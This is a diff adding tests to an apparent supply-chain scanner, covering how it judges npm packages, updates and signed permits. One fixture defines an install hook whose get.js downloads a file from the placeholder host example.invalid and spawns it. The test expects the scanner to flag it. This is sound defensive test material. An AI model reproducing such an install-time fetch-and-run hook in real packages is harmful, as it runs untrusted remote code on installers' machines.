@@ -47,6 +47,10 @@ function sdist(name: string, version: string, needs: readonly string[], setup = 
 
 beforeAll(async () => {
   house = makeGatehouse();
+  house.write(
+    'portcullis.yaml',
+    house.read('portcullis.yaml').replace('policies:\n', 'policies:\n  package: {quorum: 2 of board, expires: 1h}\n'),
+  );
   // What lies in the drill is what is judged: npm writes nothing into it.
   cpSync(DRILL, join(house.directory, 'drill'), { recursive: true });
   const npm = [
@@ -169,6 +173,58 @@ describe('what an update brings', () => {
     await scan('drill-axios-1.14.1.tgz');
     await scan('drill-axios-1.14.1.tgz', '--since', 'drill-axios-1.14.1.tgz');
     expect(registry.asked).toEqual([]);
+  });
+
+  it('lies beside it in an installation, and is judged there as new', async () => {
+    // A downloader that hides nothing, as installers have it: alone it is to be read.
+    const plain = {
+      'package.json': JSON.stringify({ name: 'plain', version: '1.0.0', scripts: { install: 'node get.js' } }),
+      'get.js':
+        "const fs = require('fs'), https = require('https'), cp = require('child_process');\nhttps.get('https://example.invalid/x', (r) => { r.pipe(fs.createWriteStream('./x')); cp.spawn('./x'); });\n",
+    };
+    const client = (version: string, dependencies: object): Record<string, string> => ({
+      'package.json': JSON.stringify({ name: 'client', version, dependencies }),
+    });
+    const install = (root: string, packages: Record<string, Record<string, string>>): void => {
+      for (const [name, files] of Object.entries(packages)) {
+        mkdirSync(join(house.directory, root, 'node_modules', name), { recursive: true });
+        for (const [file, text] of Object.entries(files)) house.write(`${root}/node_modules/${name}/${file}`, text);
+      }
+    };
+    install('was', { client: client('1.0.0', {}) });
+    install('is', { client: client('1.0.1', { plain: '1' }), plain });
+    const { value } = await scan('is/node_modules', '--since', 'was/node_modules');
+    expect(value.judgements.map(({ subject, decision }) => `${subject} ${decision}`)).toEqual([
+      'pkg:npm/client@1.0.1 review',
+      'pkg:npm/plain@1.0.0 hold',
+    ]);
+    expect(dependenciesOf(value)).toEqual([expect.stringMatching(/^plain not judged: .*judged by itself/)]);
+    expect(registry.asked).toEqual([]);
+    expect((await scan('is/node_modules/plain')).value.decision).toBe('review');
+  });
+
+  it('is let through by a permit for itself, and by none for the update', async () => {
+    const held = async (...more: string[]) =>
+      await scan('drill-axios-1.14.1.tgz', '--since', 'drill-axios-1.14.0.tgz', ...more);
+    const permit = async (file: string, subject: string, digest: string, rules: readonly string[]): Promise<void> => {
+      const propose = ['propose', 'package', subject, '--artifact', digest, '--rule', ...rules];
+      const env = { HOME: house.directory };
+      const made = await runPortcullis(
+        house.directory,
+        [...propose, '--as', 'alice', '--out', file, '--sign', '--key', 'alice', '--yes'],
+        env,
+      );
+      expect(made.err).toBe('');
+      await runPortcullis(house.directory, ['sign', file, '--key', 'bob', '--yes'], env);
+    };
+    const [update] = (await held()).value.judgements;
+    const dependency = update?.dependencies[0]?.judged;
+    await permit('update.json', update?.subject ?? '', update?.digest ?? '', ['change.held-dependency']);
+    expect((await held('--permit', 'update.json')).exit).toBe(1);
+    const rules = (dependency?.findings ?? []).flatMap(({ rule, decision }) => (decision === 'note' ? [] : [rule]));
+    await permit('dependency.json', dependency?.subject ?? '', dependency?.digest ?? '', [...new Set(rules)]);
+    const through = await held('--permit', 'dependency.json');
+    expect([through.exit, dependenciesOf(through.value)]).toEqual([0, ['drill-plain-crypto pass']]);
   });
 
   it('is judged with packages of PyPI too, but for extras', async () => {
